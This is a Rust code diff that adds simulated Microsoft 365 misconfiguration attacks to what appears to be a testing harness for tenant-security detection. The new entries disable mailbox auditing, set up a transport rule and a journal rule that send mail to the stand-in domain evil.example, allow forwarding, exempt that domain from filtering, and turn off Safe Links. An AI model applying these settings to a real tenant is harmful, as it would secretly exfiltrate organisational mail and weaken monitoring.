@@ -55,6 +55,13 @@ pub const CONFIG_ATTACKS: &[(&str, &str)] = &[
     ("join-open", "everybody joins devices and administers them"),
     ("timeout-deleted", "idle sessions never end"),
     ("deletions-unguarded", "Active Directory may delete everything at once"),
+    ("managed-audit-off", "what is done in mailboxes is no longer logged"),
+    ("managed-copies", "a mail flow rule sends copies outside"),
+    ("managed-journal", "a journal takes all mail"),
+    ("managed-forwarding", "mail may be forwarded anywhere"),
+    ("managed-free-pass", "mail of a domain passes unchecked"),
+    ("managed-links-off", "links are no longer checked"),
+    ("managed-teams-open", "everybody may write to people in Teams"),
 ];
 
 const GLOBAL_ADMINISTRATOR: &str = "62e90394-69f5-4237-9190-012177145e10";
@@ -87,6 +94,17 @@ impl Hand<'_> {
         if let Some(there) = one.pointer_mut(pointer) {
             *there = value;
         }
+    }
+
+    /// What only Tenant Configuration Management shows; Exchange and Teams keep logs of their own.
+    fn managed(&mut self, kind: &str, n: usize, property: &str, value: Value) {
+        if let Some(row) = self.tenant.settings.managed.resources.get_mut(kind).and_then(|r| r.get_mut(n)) {
+            row["properties"][property] = value;
+        }
+    }
+
+    fn manage(&mut self, kind: &str, row: Value) {
+        self.tenant.settings.managed.resources.entry(kind.to_owned()).or_default().push(row);
     }
 
     fn row(&mut self, path: &str, name: &str) -> Option<&mut Value> {
@@ -335,6 +353,22 @@ fn strike(h: &mut Hand<'_>, name: &str) {
             rows.for_each(|r| r["configuration"]["accidentalDeletionPrevention"]["synchronizationPreventionType"] = "disabled".into());
         }
         "app-policy-off" => h.one("policies/defaultappmanagementpolicy", "/isEnabled", false.into()),
+        "managed-audit-off" => h.managed("microsoft.exchange.organizationconfig", 0, "AuditDisabled", true.into()),
+        "managed-copies" => h.manage(
+            "microsoft.exchange.transportrule",
+            json!({"displayName": "transportrule-Archive", "resourceType": "microsoft.exchange.transportrule", "properties": {"Name": "Archive", "Enabled": true,
+                "Mode": "Enforce", "Priority": 1, "FromScope": "InOrganization", "BlindCopyTo": ["archive@evil.example"], "RedirectMessageTo": [], "CopyTo": [],
+                "AddToRecipients": [], "SenderDomainIs": [], "Ensure": "Present"}}),
+        ),
+        "managed-journal" => h.manage(
+            "microsoft.exchange.journalrule",
+            json!({"displayName": "journalrule-All", "resourceType": "microsoft.exchange.journalrule", "properties": {"Name": "All", "Enabled": true,
+                "JournalEmailAddress": "journal@evil.example", "RuleScope": "Global", "Ensure": "Present"}}),
+        ),
+        "managed-forwarding" => h.managed("microsoft.exchange.remotedomain", 0, "AutoForwardEnabled", true.into()),
+        "managed-free-pass" => h.managed("microsoft.exchange.hostedcontentfilterpolicy", 0, "AllowedSenderDomains", json!(["evil.example"])),
+        "managed-links-off" => h.managed("microsoft.exchange.safelinksrule", 0, "Enabled", false.into()),
+        "managed-teams-open" => h.managed("microsoft.teams.federationconfiguration", 0, "AllowedDomains", json!([])),
         "sharing-open" => h.one("admin/sharepoint/settings", "/sharingCapability", "externalUserAndGuestSharing".into()),
         "sharepoint-legacy" => h.one("admin/sharepoint/settings", "/isLegacyAuthProtocolsEnabled", true.into()),
         "unmanaged-healthy" => h.one("devicemanagement", "/settings/secureByDefault", false.into()),
